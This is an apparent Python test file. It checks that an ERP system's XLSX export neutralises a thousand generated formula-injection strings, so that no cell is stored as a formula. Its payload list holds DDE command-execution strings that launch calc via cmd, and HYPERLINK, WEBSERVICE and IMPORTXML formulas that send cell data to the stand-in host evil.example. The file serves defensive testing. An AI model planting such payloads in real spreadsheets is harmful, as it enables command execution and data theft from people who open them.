"""A thousand hostile strings leave as XLSX: by openpyxl and by the file's own XML, no cell is a formula."""

import io
import random
import re
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from erp.kernel.transfer.sheets import write
from tests.evidence.size import SEED, say

COUNT = 1_000
OPENINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "=+",
    "-=",
    "'=",
    " =",
    "\u00a0=",
    "＝",
    "＋",
    "－",
    "＠",
    "\u202e=",
    "",
)
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://evil.example/?"&A1,"ใบเสร็จ")',
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML(CONCAT("http://evil",A1),"//a")',
    "สวัสดี",
    "คุณมาลี ใจดี",
    "\u202eמבחן",
    "مرحبا",
    "1E5",
    "TRUE",
    "#REF!",
    "{1,2}",
    "A1",
    "<f>1+1</f>",
    "</c><c><f>1+1</f></c>",
    "&amp;=1+1",
    "0081-555-0101",
)


def hostile() -> list[str]:
    """The same of a seed."""
    chance = random.Random(SEED)
    return [
        f"{chance.choice(OPENINGS)}{chance.choice(BODIES)}{chance.choice(('', ' ', chr(9), '|'))}" for _ in range(COUNT)
    ]


def workbook() -> bytes:
    """They as headers' neighbours, text and figures beside one another."""
    rows = [(text, Decimal("-1.50"), text) for text in hostile()]
    return b"".join(write("xlsx", ("what", "amount", "=again"), rows))


def test_no_cell_of_a_thousand_hostile_strings_is_a_formula() -> None:
    book = workbook()
    cells = [cell for row in load_workbook(io.BytesIO(book)).active.iter_rows() for cell in row]
    assert len(cells) == 3 * (COUNT + 1)
    assert {cell.data_type for cell in cells} == {"s", "n"}
    texts = [cell.value for cell in cells[3:] if cell.data_type == "s"]
    assert len(texts) == 2 * COUNT
    assert [cell.value for cell in cells if cell.data_type == "n"] == [-1.5] * COUNT
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name or "vba" in name.lower()]
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert re.findall(rb"<f[ >/]", archive.read(name)) == []
    say(f"exports: {COUNT} hostile strings twice each in a workbook, no formula by openpyxl or in the XML")
